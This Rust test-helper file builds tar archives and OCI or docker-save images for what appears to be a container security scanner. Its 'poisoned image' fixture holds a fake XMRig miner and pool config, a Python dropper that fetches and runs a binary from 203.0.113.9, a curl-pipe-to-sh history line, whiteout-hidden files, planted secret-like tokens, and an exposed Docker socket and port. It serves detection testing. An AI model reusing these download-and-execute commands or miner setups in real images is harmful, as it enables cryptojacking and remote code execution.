//! Test helpers: a raw tar writer (so tests can write hostile entries), an OCI layout builder, and archive forms.
#![allow(dead_code)]

use sha2::{Digest, Sha256};
use std::io::Write;
use std::path::Path;

pub const BLOCK: usize = 512;

/// One tar entry as the test wants it, hostile or not.
pub struct TarEntry {
    pub path: String,
    pub typeflag: u8,
    pub data: Vec<u8>,
    pub link: String,
    pub mode: u32,
    /// Overrides the size field (for giant-entry headers that lie).
    pub size_override: Option<u64>,
}

pub fn file(path: &str, data: &[u8], mode: u32) -> TarEntry {
    TarEntry {
        path: path.to_string(),
        typeflag: b'0',
        data: data.to_vec(),
        link: String::new(),
        mode,
        size_override: None,
    }
}

pub fn dir(path: &str) -> TarEntry {
    TarEntry {
        typeflag: b'5',
        ..file(path, b"", 0o755)
    }
}

pub fn special(path: &str, typeflag: u8, link: &str) -> TarEntry {
    TarEntry {
        typeflag,
        link: link.to_string(),
        ..file(path, b"", 0o777)
    }
}

fn header(e: &TarEntry) -> [u8; BLOCK] {
    let mut h = [0u8; BLOCK];
    let name = e.path.as_bytes();
    if name.len() <= 100 {
        h[..name.len()].copy_from_slice(name);
    } else {
        // ustar prefix/name split at a slash.
        let split = e.path[..155.min(e.path.len())].rfind('/').expect("path splits");
        h[345..345 + split].copy_from_slice(&name[..split]);
        h[..name.len() - split - 1].copy_from_slice(&name[split + 1..]);
    }
    h[100..108].copy_from_slice(format!("{:07o}\0", e.mode).as_bytes());
    h[108..116].copy_from_slice(b"0000000\0");
    h[116..124].copy_from_slice(b"0000000\0");
    let size = e.size_override.unwrap_or(e.data.len() as u64);
    h[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
    h[136..148].copy_from_slice(b"00000000000\0");
    h[156] = e.typeflag;
    h[157..157 + e.link.len()].copy_from_slice(e.link.as_bytes());
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    h
}

pub fn tar(entries: &[TarEntry]) -> Vec<u8> {
    let mut out = Vec::new();
    for e in entries {
        out.extend_from_slice(&header(e));
        out.extend_from_slice(&e.data);
        let pad = (BLOCK - e.data.len() % BLOCK) % BLOCK;
        out.resize(out.len() + pad, 0);
    }
    out.resize(out.len() + 2 * BLOCK, 0);
    out
}

pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(data).expect("gzip");
    enc.finish().expect("gzip")
}

pub fn zstd(data: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(data, ruzstd::encoding::CompressionLevel::Fastest)
}

pub fn digest(data: &[u8]) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(data)))
}

/// A layer as stored (compressed) plus its uncompressed digest.
pub struct Layer {
    pub blob: Vec<u8>,
    pub media_type: &'static str,
    pub diff_id: String,
}

pub fn gz_layer(entries: &[TarEntry]) -> Layer {
    let raw = tar(entries);
    Layer {
        diff_id: digest(&raw),
        blob: gzip(&raw),
        media_type: "application/vnd.oci.image.layer.v1.tar+gzip",
    }
}

pub fn zstd_layer(entries: &[TarEntry]) -> Layer {
    let raw = tar(entries);
    Layer {
        diff_id: digest(&raw),
        blob: zstd(&raw),
        media_type: "application/vnd.oci.image.layer.v1.tar+zstd",
    }
}

pub fn plain_layer(entries: &[TarEntry]) -> Layer {
    let raw = tar(entries);
    Layer {
        diff_id: digest(&raw),
        blob: raw,
        media_type: "application/vnd.oci.image.layer.v1.tar",
    }
}

/// The documents and blobs of one image.
pub struct BuiltImage {
    pub config: Vec<u8>,
    pub manifest: Vec<u8>,
    pub layers: Vec<Layer>,
}

impl BuiltImage {
    pub fn new(layers: Vec<Layer>, run_config: serde_json::Value, history: Vec<&str>) -> Self {
        let diff_ids: Vec<&str> = layers.iter().map(|l| l.diff_id.as_str()).collect();
        let history: Vec<serde_json::Value> = history.iter().map(|h| serde_json::json!({"created_by": h})).collect();
        let config = serde_json::to_vec(&serde_json::json!({
            "architecture": "amd64",
            "os": "linux",
            "config": run_config,
            "rootfs": {"type": "layers", "diff_ids": diff_ids},
            "history": history,
        }))
        .expect("config");
        let manifest = serde_json::to_vec(&serde_json::json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": digest(&config), "size": config.len()},
            "layers": layers.iter().map(|l| serde_json::json!({"mediaType": l.media_type, "digest": digest(&l.blob), "size": l.blob.len()})).collect::<Vec<_>>(),
        }))
        .expect("manifest");
        BuiltImage {
            config,
            manifest,
            layers,
        }
    }

    /// Writes an OCI layout whose index names the image `name` (and wraps it in a platform index).
    pub fn write_layout(&self, dir: &Path, name: &str) {
        let blobs = dir.join("blobs/sha256");
        std::fs::create_dir_all(&blobs).expect("mkdir");
        let put = |data: &[u8]| {
            let d = digest(data);
            std::fs::write(blobs.join(d.trim_start_matches("sha256:")), data).expect("write blob");
            d
        };
        for l in &self.layers {
            put(&l.blob);
        }
        put(&self.config);
        let manifest_digest = put(&self.manifest);
        // A multi-platform index: an arm64 decoy (never read) and the amd64 image.
        let nested = serde_json::to_vec(&serde_json::json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "manifests": [
                {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": format!("sha256:{}", "0".repeat(64)), "size": 1, "platform": {"os": "linux", "architecture": "arm64"}},
                {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": manifest_digest, "size": self.manifest.len(), "platform": {"os": "linux", "architecture": "amd64"}},
            ]
        }))
        .expect("index");
        let nested_digest = put(&nested);
        let index = serde_json::json!({
            "schemaVersion": 2,
            "manifests": [{
                "mediaType": "application/vnd.oci.image.index.v1+json",
                "digest": nested_digest,
                "size": nested.len(),
                "annotations": {"io.containerd.image.name": name, "org.opencontainers.image.ref.name": "latest"}
            }]
        });
        std::fs::write(dir.join("index.json"), serde_json::to_vec(&index).expect("json")).expect("index");
        std::fs::write(dir.join("oci-layout"), br#"{"imageLayoutVersion":"1.0.0"}"#).expect("oci-layout");
    }

    /// A `docker save` archive (old layout: `<id>/layer.tar`, config `<id>.json`).
    pub fn write_docker_save(&self, path: &Path, tag: &str) {
        let mut entries = Vec::new();
        let mut layer_paths = Vec::new();
        for (i, l) in self.layers.iter().enumerate() {
            let p = format!("layer{i}/layer.tar");
            entries.push(file(&p, &l.blob, 0o644));
            layer_paths.push(p);
        }
        entries.push(file("config.json", &self.config, 0o644));
        let manifest = serde_json::json!([{"Config": "config.json", "RepoTags": [tag], "Layers": layer_paths}]);
        entries.push(file(
            "manifest.json",
            &serde_json::to_vec(&manifest).expect("json"),
            0o644,
        ));
        std::fs::write(path, tar(&entries)).expect("write archive");
    }
}

/// Tars a directory tree (for OCI archives), files only with their relative paths.
pub fn tar_dir(dir: &Path) -> Vec<u8> {
    let mut entries = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir") {
            let p = e.expect("entry").path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(dir).expect("prefix").to_string_lossy().into_owned();
                entries.push(file(&rel, &std::fs::read(&p).expect("read"), 0o644));
            }
        }
    }
    tar(&entries)
}

/// A miner-like ELF: real ELF magic, xmrig strings, pool URL.
pub fn fake_miner() -> Vec<u8> {
    let mut b = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    b.extend_from_slice(&[0u8; 4096]);
    b.extend_from_slice(
        b"XMRig/6.21.0 RandomX cryptonight --donate-level=1 mining.subscribe stratum+tcp://pool.supportxmr.com:3333\0",
    );
    b.extend_from_slice(&[0u8; 1024]);
    b
}

pub const MINER_CONFIG: &[u8] = br#"{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true},
    "pools": [{"url": "pool.supportxmr.com:443", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "x", "tls": true}]
}"#;

pub const DAO_PY: &[u8] = b"import os, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/k', '/tmp/.k')\nos.chmod('/tmp/.k', 0o755)\nos.system('/tmp/.k -c /opt/.cache/config.json')\n";

/// busybox-static from Debian as the base layer (the test fails loudly if the package is missing).
pub fn busybox_layer() -> Layer {
    let busybox = std::fs::read("/bin/busybox").expect("/bin/busybox missing: run scripts/setup-deps (busybox-static)");
    gz_layer(&[
        dir("bin"),
        file("bin/busybox", &busybox, 0o755),
        special("bin/sh", b'2', "/bin/busybox"),
        dir("etc"),
        file("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n", 0o644),
    ])
}

/// The poisoned image of the tests: miner hidden in layer 1, deleted by whiteouts in layer 2.
pub fn poisoned_image() -> BuiltImage {
    let layer1 = zstd_layer(&[
        dir("opt/.cache"),
        file("opt/.cache/xmrig", &fake_miner(), 0o755),
        file("opt/.cache/config.json", MINER_CONFIG, 0o644),
        file("app/dao.py", DAO_PY, 0o644),
        file(
            "app/.env",
            b"DEBUG=0\nGITHUB_TOKEN=ghp_cg3hPOJ0EW1zkso24L5PjV1AyD1hiH0daF6r\n",
            0o600,
        ),
        file(
            "infra/prod.tfstate",
            br#"{"version":4,"resources":[{"instances":[{"attributes":{"password":"Zq8kLp2vN4xR7tYw"}}]}]}"#,
            0o644,
        ),
    ]);
    let layer2 = plain_layer(&[
        file("opt/.cache/.wh.xmrig", b"", 0o644),
        file("opt/.cache/.wh.config.json", b"", 0o644),
        file("app/README", b"harmless\n", 0o644),
    ]);
    BuiltImage::new(
        vec![busybox_layer(), layer1, layer2],
        serde_json::json!({
            "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8kLp2vN4"],
            "ExposedPorts": {"2375/tcp": {}},
            "Volumes": {"/var/run/docker.sock": {}},
            "Cmd": ["python3", "/app/dao.py"],
        }),
        vec![
            "ADD busybox /",
            "RUN curl -sSL http://203.0.113.9/install.sh | sh",
            "RUN rm /opt/.cache/xmrig /opt/.cache/config.json",
        ],
    )
}
